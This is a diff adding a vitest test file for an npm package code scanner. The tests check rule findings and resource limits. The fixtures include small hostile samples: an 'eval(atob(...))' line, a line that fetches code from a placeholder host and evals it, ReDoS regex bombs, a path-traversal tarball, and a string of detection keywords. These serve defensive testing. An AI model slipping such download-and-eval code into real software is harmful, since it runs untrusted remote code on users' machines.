@@ -1,0 +1,183 @@
+import { readdir, readFile, writeFile } from 'node:fs/promises';
+import { join } from 'node:path';
+import { afterEach, expect, test } from 'vitest';
+import { integrityOf, sha512OfIntegrity } from '../../../core/digest.ts';
+import { temporaryFolder } from '../../../test/support/folder.ts';
+import { tarballOf } from '../../../test/support/tarballs.ts';
+import { judgeCode } from './judge.ts';
+import { codeBounds, scanProcess, type CodeBounds } from './scan-process.ts';
+import type { CodeReport } from './report.ts';
+import { codeRulesDigest } from './rules-digest.ts';
+import { openCodeScanner, type CodeScanner, type PackageToScan } from './scanner.ts';
+
+const open: { close(): Promise<void> }[] = [];
+afterEach(async () => {
+  for (const each of open.splice(0)) await each.close();
+});
+
+async function scanner(change: Partial<CodeBounds> = {}, cacheFolder?: string): Promise<CodeScanner> {
+  const opened = openCodeScanner({
+    cacheFolder: cacheFolder ?? (await temporaryFolder()),
+    bounds: { ...codeBounds, ...change },
+    processes: 1,
+  });
+  open.push(opened);
+  return opened;
+}
+
+function sample(files: Readonly<Record<string, string | Uint8Array>>): PackageToScan {
+  const all = { 'package.json': '{ "name": "sample", "version": "1.0.0" }', ...files };
+  const tarball = tarballOf(Object.entries(all).map(([path, content]) => ({ path: `package/${path}`, content })));
+  return { name: 'sample', version: '1.0.0', integrity: integrityOf(tarball), tarball: () => Promise.resolve(tarball) };
+}
+
+const tiny = sample({ 'index.js': 'module.exports = 1;\n' });
+const runsText = sample({ 'index.js': 'module.exports = (text) => eval(text);\n' });
+const rulesIn = ({ result }: CodeReport): string[] | string =>
+  result.kind === 'scanned' ? result.findings.map(({ rule }) => rule) : result.why;
+
+test('reports what is in a package, and the same again', async () => {
+  const { scan } = await scanner();
+  const report = await scan(runsText);
+  expect(report).toEqual({
+    name: 'sample',
+    version: '1.0.0',
+    integrity: runsText.integrity,
+    result: { kind: 'scanned', findings: [{ rule: 'code-eval', file: 'index.js', value: 'eval', count: 1 }] },
+  });
+  expect(await scan(runsText)).toEqual(report);
+});
+
+test.each([
+  ['a file of 40 MB', { 'index.js': 'call(value);\n'.repeat(3_200_000) }, {}, 'size'],
+  ['a text that is too long', { 'words.txt': 'x'.repeat(2_000) }, { searchedFileBytes: 1_000 }, 'size'],
+  ['a tarball that is too large', { 'index.js': 'x' }, { tarballBytes: 10 }, 'size'],
+  ['regular expressions that take for ever', { 'index.js': bombs() }, {}, []],
+  ['100,000 brackets in each other', { 'index.js': '['.repeat(100_000) + ']'.repeat(100_000) }, {}, ['code-unparsed']],
+  ['bytes that are not UTF-8', { 'index.js': Buffer.from('6576616c2878293b2f2fff80c0fe', 'hex') }, {}, ['code-eval']],
+  ['nothing but zeros', { 'index.js': Buffer.alloc(100_000) }, {}, []],
+  ['one line of 5 MB', { 'index.js': 'a(b,"c");'.repeat(580_000) }, {}, []],
+] as const)('ends within the bounds on %s', async (_, files, change, expected) => {
+  const { scan } = await scanner(change);
+  expect(rulesIn(await scan(sample(files)))).toEqual(expected);
+});
+
+function bombs(): string {
+  const patterns = Array.from({ length: 500 }, (_, index) => `var r${index} = /(a+)+(b*)*(c|c)*$/;`);
+  return `${patterns.join('\n')}\nvar s = "${'a'.repeat(500_000)}!";\n`;
+}
+
+test('looks at all of 5,000 files, and names a hundred of them for each rule', async () => {
+  const { scan } = await scanner();
+  const files = Array.from({ length: 5_000 }, (_, index): [string, string] => [`lib/${index}.js`, `run(${index});\n`]);
+  const odd = Array.from({ length: 150 }, (_, index): [string, string] => [`odd/${index}.js`, 'eval(atob(text));\n']);
+  const last: [string, string] = ['z.js', "fetch('https://cdn.example.invalid/z').then((a) => a.text()).then(eval);\n"];
+  const found = rulesIn(await scan(sample(Object.fromEntries([...files, ...odd, last]))));
+  expect(
+    Object.fromEntries(Object.entries(Object.groupBy(found, (rule) => rule)).map(([rule, all]) => [rule, all?.length])),
+  ).toEqual({
+    'code-eval': 100,
+    'code-runs-decoded': 100,
+    'code-runs-downloaded': 1,
+  });
+});
+
+/** Nothing but the beginnings of what rules look for: every pair of them is compared. */
+const slow = sample({ 'words.txt': 'curl process.env eval(x fetch( atob( '.repeat(200_000) });
+/** More syntax than the memory that is given holds. */
+const large = sample({ 'index.js': 'a(b,c);'.repeat(1_500_000) });
+
+test.each([
+  ['time', slow, { deadlineMs: 3_000, deadlinePerMibMs: 0 }],
+  ['memory', large, { heapBytes: 256 * 1024 * 1024 }],
+])('gives up a package that takes too much %s, and goes on', async (_, hostile, change) => {
+  const cacheFolder = await temporaryFolder();
+  const { scan } = await scanner(change, cacheFolder);
+  const report = await scan(hostile);
+  expect(rulesIn(report)).toBe('bounds');
+  expect(judgeCode([report], [])).toMatchObject([
+    { rule: 'code-not-scanned', level: 'block', subject: 'sample@1.0.0' },
+  ]);
+  expect(rulesIn(await scan(runsText))).toEqual(['code-eval']);
+  // With more time or memory it may be looked at.
+  expect(await readdir(cacheFolder)).toEqual([`${sha512OfIntegrity(runsText.integrity)}.json`]);
+});
+
+test('says that a package was not looked at where the process ends on it, and goes on with another one', async () => {
+  const worker = scanProcess(codeBounds);
+  open.push({ close: () => worker.end() });
+  const look = async (pkg: PackageToScan): Promise<unknown> => worker.scan(await pkg.tarball(), 'sample');
+  expect(await look(tiny)).toMatchObject({ kind: 'scanned' });
+  const looks = look(slow);
+  // The request is on its way.
+  await new Promise(setImmediate);
+  await worker.end();
+  expect(await looks).toEqual({ kind: 'not-scanned', why: 'crash' });
+  expect(await look(tiny)).toMatchObject({ kind: 'scanned' });
+});
+
+test.each([
+  ['is no archive', Buffer.from('words')],
+  ['leads out of the package', tarballOf([{ path: 'package/../../up.js', content: 'x' }])],
+])('does not look at a tarball that %s', async (_, tarball) => {
+  const { scan } = await scanner();
+  const report = await scan({ ...tiny, integrity: integrityOf(tarball), tarball: () => Promise.resolve(tarball) });
+  expect(rulesIn(report)).toBe('archive');
+});
+
+test('looks once at the same bytes, whatever they are called, for as long as nothing changes', async () => {
+  const cacheFolder = await temporaryFolder();
+  const first = await scanner({}, cacheFolder);
+  const { result } = await first.scan(runsText);
+  const gone = { ...runsText, name: 'other', tarball: () => Promise.reject(new Error('it is not there')) };
+  expect(await (await scanner({}, cacheFolder)).scan(gone)).toEqual({ ...gone, result, tarball: undefined });
+  const changed = await scanner({ parsedFileBytes: 1_000 }, cacheFolder);
+  await expect(changed.scan(gone)).rejects.toThrow('it is not there');
+});
+
+test('does not believe a damaged report, and writes it anew', async () => {
+  const cacheFolder = await temporaryFolder();
+  const { scan } = await scanner({}, cacheFolder);
+  const report = await scan(runsText);
+  const path = join(cacheFolder, `${sha512OfIntegrity(runsText.integrity)}.json`);
+  const written = await readFile(path, 'utf8');
+  await writeFile(path, written.slice(0, 40));
+  expect(await scan(runsText)).toEqual(report);
+  expect(await readFile(path, 'utf8')).toBe(written);
+});
+
+test('refuses bytes that are not what the lock says, and passes on why there are none', async () => {
+  const { scan } = await scanner();
+  await expect(scan({ ...tiny, tarball: runsText.tarball })).rejects.toMatchObject({ code: 'E_DIGEST' });
+  await expect(scan({ ...tiny, tarball: () => Promise.reject(new Error('no network')) })).rejects.toThrow('no network');
+  expect(rulesIn(await scan(tiny))).toEqual([]);
+});
+
+test('looks at several packages at once, in as many processes as it may have', async () => {
+  const opened = openCodeScanner({ cacheFolder: await temporaryFolder(), processes: 2 });
+  open.push(opened);
+  const packages = Array.from({ length: 6 }, (_, index) => sample({ 'index.js': `eval(text${index});\n` }));
+  let fetching = 0;
+  let most = 0;
+  const reports = await Promise.all(
+    packages.map((pkg) =>
+      opened.scan({
+        ...pkg,
+        tarball: async () => {
+          most = Math.max(most, ++fetching);
+          const bytes = await pkg.tarball();
+          fetching--;
+          return bytes;
+        },
+      }),
+    ),
+  );
+  expect(reports.map(({ integrity }) => integrity)).toEqual(packages.map(({ integrity }) => integrity));
+  expect(reports.map(rulesIn)).toEqual(packages.map(() => ['code-eval']));
+  expect(most).toBeLessThanOrEqual(2);
+});
+
+test('gives the rules one digest', () => {
+  expect(codeRulesDigest()).toMatch(/^[0-9a-f]{64}$/u);
+  expect(codeRulesDigest()).toBe(codeRulesDigest());
+});
